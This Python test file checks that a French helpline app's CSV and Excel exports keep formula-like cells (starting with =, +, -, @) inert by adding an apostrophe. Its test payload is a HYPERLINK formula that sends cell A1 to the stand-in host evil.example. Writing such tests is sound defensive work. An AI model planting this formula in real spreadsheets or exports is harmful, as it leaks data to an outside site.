"""Spreadsheet files: no cell the product writes runs as a formula, numbers stay numbers, CSVs for French
spreadsheets or as data."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner, Result
from openpyxl import load_workbook
from sqlalchemy import select, update
from sqlalchemy.orm import Session, sessionmaker

from call_log.models import Call
from directory.coverage import coverage_matrix, matrix_csv
from directory.csv_file import read_csv, write_csv
from directory.entries import Vocabulary
from directory.models import Association, ServiceCategory
from directory.storage import entry_of, load_associations
from foundation.spreadsheets import CsvForm, csv_text, inert_cell, restored_text, starts_a_formula
from helpline.cli import main
from reports.aggregate import build_report
from reports.opendata import open_data_rows, render_open_data
from reports.render_csv import render_csv
from reports.render_xlsx import render_xlsx
from tests.conftest import EXAMPLE_CONFIG
from tests.report_dataset import BAD, MONTH

# A link that sends the neighbouring cell to another site when clicked, once the file is opened.
EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Aide")'
PARIS = ZoneInfo("Europe/Paris")
SQLITE_ONLY = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+33 2 61 91 20 01 (accueil)", "'+33 2 61 91 20 01 (accueil)"),
        ("- tiret", "'- tiret"),
        ("'=x", "''=x"),  # read back as written
        ("''=x", "'''=x"),
        ("'texte", "'texte"),
        # Numbers are data, whatever their sign or decimal mark.
        ("-3", "-3"),
        ("-0,25", "-0,25"),
        ("-0.25", "-0.25"),
        ("+33261912001", "+33261912001"),
        ("-1e5", "-1e5"),
        (-3, -3),
        (-0.25, -0.25),
        (None, None),
        ("", ""),
        ("Aide = entraide", "Aide = entraide"),
    ],
)
def test_cells_that_would_start_a_formula_are_kept_text(
    cell: str | int | float | None, written: object
) -> None:
    """'=', '+', '-', '@', tab and CR starting text get an apostrophe; numbers and other text do not."""
    assert inert_cell(cell) == written
    if isinstance(cell, str):
        assert restored_text(str(written)) == cell


def test_a_row_of_numbers_and_formulas_in_each_form() -> None:
    """Both forms neutralise the same cells; the spreadsheet form has ';' and a byte-order mark."""
    row = ["-3", -3, "-0,25", "-x", EVIL]
    assert csv_text([row], CsvForm.SPREADSHEET) == (
        '\ufeff-3;-3;-0,25;\'-x;"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Aide"")"\n'
    )
    assert csv_text([row], CsvForm.DATA) == (
        '-3,-3,"-0,25",\'-x,"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Aide"")"\n'
    )
    assert not starts_a_formula("-0,25")


@pytest.fixture
def evil_october(october: sessionmaker[Session]) -> Session:
    """The report's month, with the association that takes most calls named like a formula."""
    with october() as session, session.begin():
        session.execute(update(Association).where(Association.name == BAD).values(name=EVIL))
    return october()


@SQLITE_ONLY
@pytest.mark.parametrize("form", list(CsvForm))
def test_report_csv_keeps_a_formula_name_text(evil_october: Session, form: CsvForm) -> None:
    """The report CSV, in either form, writes the association's name with its protective apostrophe."""
    report = build_report(evil_october, MONTH, tz=PARIS, helpline_name="1001 services", now=datetime.now(UTC))
    text = render_csv(report, form).removeprefix("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=form.delimiter) for cell in row]
    assert "'" + EVIL in cells
    assert EVIL not in cells
    assert not [cell for cell in cells if starts_a_formula(cell)]


@SQLITE_ONLY
def test_report_xlsx_stores_a_formula_name_as_text(evil_october: Session) -> None:
    """In the workbook the name is a text cell (never a formula), shown as written and kept text if edited."""
    report = build_report(evil_october, MONTH, tz=PARIS, helpline_name="1001 services", now=datetime.now(UTC))
    workbook = load_workbook(io.BytesIO(render_xlsx(report)))
    cells = [cell for row in workbook["Associations"].iter_rows() for cell in row if cell.value == EVIL]
    assert [(cell.data_type, cell.quotePrefix) for cell in cells] == [("s", True)]
    formulas = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    # Numbers stay numbers: counts are integers, not text.
    assert workbook["Chiffres clés"]["C2"].value == 10


def test_directory_csv_keeps_a_formula_name_text_and_reads_it_back(sessions: sessionmaker[Session]) -> None:
    """The directory's CSV writes '=...' names with an apostrophe; importing it gives the name back."""
    with sessions() as session, session.begin():
        session.execute(update(Association).where(Association.name == BAD).values(name=EVIL))
    with sessions() as session:
        vocabulary = Vocabulary.load(session)
        entries = [entry_of(association) for association in load_associations(session)]
        for form in CsvForm:
            text = write_csv(entries, vocabulary, form)
            assert ("'" + EVIL).replace('"', '""') in text
            assert read_csv(text, vocabulary) == entries


def test_coverage_and_open_data_keep_a_formula_label_text(october: sessionmaker[Session]) -> None:
    """A category label like a formula is written with its apostrophe in the coverage and open-data CSVs."""
    with october() as session, session.begin():
        session.execute(update(ServiceCategory).where(ServiceCategory.code == "MAISON").values(label="@cmd"))
    with october() as session:
        coverage = matrix_csv(coverage_matrix(session, top_level_only=True), CsvForm.SPREADSHEET)
        assert ";'@cmd;" in coverage.splitlines()[0]
        published = render_open_data(open_data_rows(session, MONTH, tz=PARIS, suppress_below=1))
        assert ",MAISON,'@cmd," in published
        assert ",MAISON,@cmd," not in published


def run(database_url: str, *args: str) -> Result:
    """Run `helpline ARGS` against the test database."""
    env = {"HELPLINE_DATABASE_URL": database_url, "HELPLINE_CONFIG": str(EXAMPLE_CONFIG)}
    return CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)


@pytest.fixture
def evil_call(sessions: sessionmaker[Session]) -> None:
    """A call of March 2026 put through to an association named like a formula."""
    with sessions() as session, session.begin():
        association = session.scalars(select(Association).where(Association.name == BAD)).one()
        association.name = EVIL
        session.add(
            Call(
                call_sid="CA" + "e" * 32,
                started_at=datetime(2026, 3, 2, 9, 15, tzinfo=UTC),
                ended_at=datetime(2026, 3, 2, 9, 17, 5, tzinfo=UTC),
                caller="+336******01",
                status="completed",
                duration_s=125,
                category_code="MAISON",
                association=association,
                outcome="connected_association",
                menu_path="1",
                beneficiary="relative",
                in_territory=True,
                channel="ivr",
            )
        )


@pytest.mark.usefixtures("evil_call")
def test_calls_export_for_a_french_spreadsheet(database_url: str) -> None:
    """`calls export` writes ';', a BOM, French headers, codes in words, local times, inert cells."""
    result = run(database_url, "calls", "export", "--month", "2026-03")
    assert result.exit_code == 0, result.output
    assert result.output.startswith("\ufeffIdentifiant Twilio;Début;Fin;Appelant;Statut;Durée (s);Service;")
    [row] = list(csv.DictReader(io.StringIO(result.output.removeprefix("\ufeff")), delimiter=";"))
    assert {key: row[key] for key in ("Début", "Appelant", "Statut", "Service", "Association", "Issue")} == {
        "Début": "02/03/2026 10:15:00",
        "Appelant": "'+336******01",
        "Statut": "Terminé",
        "Service": "Ménage, linge et entretien de la maison",
        "Association": "'" + EVIL,
        "Issue": "Mis en relation avec une association",
    }
    assert (row["Pour qui"], row["Sur le territoire"], row["Hors horaires"], row["Canal"]) == (
        "Pour un proche",
        "oui",
        "non",
        "Serveur vocal",
    )


@pytest.mark.usefixtures("evil_call")
def test_calls_export_as_data(database_url: str, tmp_path: Path) -> None:
    """`calls export --csv donnees` keeps the codes and the ',' separator, and still no live formula."""
    result = run(database_url, "calls", "export", "--month", "2026-03", "--csv", "donnees")
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.output)))
    assert (row["association"], row["outcome"], row["beneficiary"], row["started_at"]) == (
        "'" + EVIL,
        "connected_association",
        "relative",
        "2026-03-02T09:15:00Z",
    )
